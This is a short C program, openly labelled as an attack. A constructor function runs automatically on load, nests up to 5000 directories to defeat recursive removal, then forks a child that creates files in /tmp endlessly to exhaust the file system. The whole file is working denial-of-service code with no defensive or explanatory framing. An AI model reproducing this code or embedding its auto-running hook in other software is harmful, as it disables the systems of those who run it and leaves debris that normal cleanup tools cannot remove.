/* Makes directories so deep that whoever removes them by calling itself for
 * each breaks off, and then files without end. */

#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

enum { DEPTH = 5000 };

__attribute__((constructor)) static void
attack(void)
{
    char name[64];

    for (int i = 0; i < DEPTH && mkdir("d", 0700) == 0; i++)
        if (chdir("d") < 0)
            break;
    if (fork() != 0)
        return;
    for (unsigned number = 0;; number++) {
        (void)snprintf(name, sizeof name, "/tmp/file-%u", number);
        (void)close(open(name, O_WRONLY | O_CREAT, 0600));
    }
}
